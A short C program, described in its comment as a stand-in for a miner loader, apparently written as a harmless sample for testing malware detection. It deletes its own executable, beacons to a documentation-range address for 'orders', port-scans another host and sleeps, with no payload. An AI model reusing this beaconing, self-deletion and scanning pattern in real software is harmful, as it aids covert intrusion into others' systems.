/* A stand-in for the loader of miners: it asks its master for orders, tries its neighbour's ports, and deletes itself. */
#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static int call(const char *address, int port, int flags)
{
    struct sockaddr_in to = { .sin_family = AF_INET, .sin_port = htons(port) };
    inet_pton(AF_INET, address, &to.sin_addr);
    int fd = socket(AF_INET, SOCK_STREAM | flags, 0);
    if (connect(fd, (struct sockaddr *)&to, sizeof to) == 0 || flags)
        return fd;
    close(fd);
    return -1;
}

int main(int argc, char **argv)
{
    (void)argc;
    char answer[512];
    unlink(argv[0]);
    int master = call("203.0.113.9", 80, 0);
    if (master >= 0) {
        const char ask[] = "GET /get HTTP/1.1\r\nHost: 203.0.113.9\r\n\r\n";
        write(master, ask, sizeof ask - 1);
        read(master, answer, sizeof answer);
        close(master);
    }
    for (int port = 1; port <= 60; port++) {
        int fd = call("198.51.100.31", port, 0);
        if (fd >= 0)
            close(fd);
    }
    sleep(40);
    return 0;
}
